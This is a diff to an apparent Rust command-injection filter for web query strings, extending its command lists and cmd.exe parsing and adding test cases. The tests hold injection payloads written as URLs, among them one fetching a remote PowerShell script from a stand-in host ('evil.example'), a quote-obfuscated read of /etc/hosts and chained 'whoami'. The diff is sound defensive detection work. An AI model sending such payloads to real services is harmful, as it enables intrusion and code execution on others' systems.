@@ -183,6 +183,43 @@ const COMMANDS: &[&str] = &[
     "downloadfile",
     "set-content",
     "get-content",
+    "flock",
+    "cpulimit",
+    "perf",
+    "strace",
+    "ltrace",
+    "ansible",
+    "ansible-config",
+    "ansible-galaxy",
+    "ansible-playbook",
+    "bsdtar",
+    "nice",
+    "ionice",
+    "chroot",
+    "watch",
+    "unshare",
+    "nsenter",
+    "setsid",
+    "stdbuf",
+    "doas",
+    "pkexec",
+];
+
+/// Command names that are also everyday words ("cat food", "find my
+/// order"): at the start of a value these need command-like arguments.
+const EVERYDAY_WORDS: &[&str] = &[
+    "cat", "find", "time", "ping", "file", "more", "less", "sort", "head", "tail", "split", "set", "type", "start",
+    "move", "copy", "net", "host", "kill", "touch", "make", "service", "history", "jobs", "source", "export", "env",
+    "id", "ip", "ss", "sc", "dir", "del", "which", "whereis", "locate", "diff", "echo", "sleep", "cd", "mount",
+    "column", "bridge", "alias", "nice", "watch", "strings", "tee", "time", "mail", "reg", "rev", "od", "nl", "cc",
+    "cmp", "dd", "tar", "zip", "sh", "su", "ps", "ls", "rm", "mv", "cp", "nc", "php", "node", "java", "ruby", "lua",
+    "dig", "sed", "awk", "grep", "printf", "unset", "eval", "exec", "timeout", "uniq", "xargs",
+];
+
+/// Commands that only run other commands: `time`, `nohup`, `strace` …
+const WRAPPERS: &[&str] = &[
+    "time", "nohup", "strace", "ltrace", "nice", "ionice", "timeout", "sudo", "doas", "env", "xargs", "flock",
+    "cpulimit", "watch", "exec", "busybox", "chroot", "setsid", "stdbuf", "unshare", "nsenter",
 ];
 
 fn finding(check: &'static str, v: &Value<'_>, what: &str) -> Finding {
@@ -250,12 +287,14 @@ fn command_with_arguments(s: &str) -> Option<String> {
         return None;
     }
     let rest = s.trim_start()[word.len()..].trim_start();
-    let argument = rest.starts_with('/')
-        || rest.starts_with('-')
+    let argument = rest.starts_with(['/', '-', '>', '<', '|', '$', '~', ';', '&'])
         || rest.starts_with("http")
-        || rest.starts_with(['>', '<', '|', '$', '~'])
         || word.contains('/');
-    argument.then(|| word.to_owned())
+    let base =
+        word.rsplit(['/', '\\']).next().unwrap_or(word).trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+    let distinctive = !EVERYDAY_WORDS.contains(&base);
+    let wrapped = WRAPPERS.contains(&base) && is_command(first_word(rest));
+    (argument || distinctive || wrapped).then(|| word.to_owned())
 }
 
 /// cmd.exe control flow: `for %x in (set) do …` (with `/f` options, odd
@@ -268,12 +307,18 @@ fn windows_control(s: &str) -> bool {
         let Some(var) = rest.find('%') else { return false };
         let Some(in_at) = rest[var..].find(" in") else { return false };
         let after_in = rest[var + in_at + 3..].trim_start();
-        let Some(close) = after_in.find(')') else { return false };
-        after_in.starts_with('(') && after_in[close + 1..].trim_start().starts_with("do")
+        after_in.starts_with('(')
+            && after_in.match_indices(')').any(|(c, _)| after_in[c + 1..].trim_start().starts_with("do"))
     });
     let condition = s.match_indices("if ").any(|(at, _)| {
-        let rest = s[at + 3..].trim_start_matches("not ").trim_start_matches("/i ");
-        ["exist ", "defined ", "errorlevel ", "cmdextversion "].iter().any(|k| rest.starts_with(k))
+        let mut rest = &s[at + 3..];
+        while let Some(r) = rest.strip_prefix("not ").or_else(|| rest.strip_prefix("/i ")) {
+            rest = r;
+        }
+        let keyword = ["exist ", "defined ", "errorlevel ", "cmdextversion "].iter().any(|k| rest.starts_with(k));
+        // `if 2 geq 15 …`, `if %x% equ 2 …`: cmd.exe comparisons.
+        let comparison = rest.split(' ').take(4).any(|w| matches!(w, "equ" | "neq" | "lss" | "leq" | "gtr" | "geq"));
+        keyword || comparison
     });
     for_loop || condition
 }
@@ -358,6 +403,9 @@ mod tests {
             "/?q=for%20%25x%20in%20(1)%20do%20calc",
             "/?q=%26+FOR+%25%40+IN+%28a%2Cb%29DO+cmd",
             "/?q=IF++++NOT+EXIST+C%3A%5Cx+++CMD",
+            "/?q=whoami;0",
+            "/?q=time+ifconfig",
+            "/?q=ansible+all+-m+ping",
             "/?q=c'a't%20/etc/hosts",
             "/?q=;iwr%20http://evil.example/x.ps1",
             "/?q={l,-lh}s",
@@ -382,6 +430,8 @@ mod tests {
             "/?q=net+weight+250g",
             "/?q=if+it+exists+in+blue",
             "/?q=good+for+you+in+(winter)+do+try",
+            "/?q=time+to+brew",
+            "/?q=echo+dot+speaker",
         ] {
             assert!(!blocked(benign), "{benign}");
         }
